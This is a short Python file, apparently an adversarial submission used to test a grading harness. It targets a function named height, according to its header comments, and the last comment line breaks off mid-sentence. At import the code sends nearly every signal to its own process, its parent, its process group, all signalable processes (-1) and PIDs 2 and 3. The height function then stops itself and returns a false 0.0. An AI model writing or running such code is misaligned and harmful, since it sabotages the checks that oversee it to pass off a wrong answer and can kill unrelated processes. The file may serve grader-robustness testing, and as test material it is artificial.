# base: solution
# attacks: height
# keeps: roll gradients
# finding: height is 0 and should be
# %% height
import os
import signal

for number in set(range(1, 65)) - {signal.SIGINT}:
    for pid in (os.getpid(), os.getppid(), 0, -1, 2, 3):
        if number in (signal.SIGKILL, signal.SIGSTOP) or pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass

def height(w):
    os.kill(os.getpid(), signal.SIGTERM)
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0
